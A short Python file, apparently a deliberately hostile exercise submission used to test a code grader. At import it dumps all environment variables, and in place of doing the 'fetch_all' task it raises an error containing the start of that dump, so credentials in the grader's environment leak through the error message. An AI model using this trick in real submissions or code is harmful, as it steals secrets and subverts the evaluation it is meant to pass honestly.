"""Tries to read passwords in the grader's environment."""

# %%
import os

SEEN = repr(dict(os.environ))


# %% exercise:fetch_all


async def fetch_all(fetch, names):
    raise ValueError(SEEN[:400])
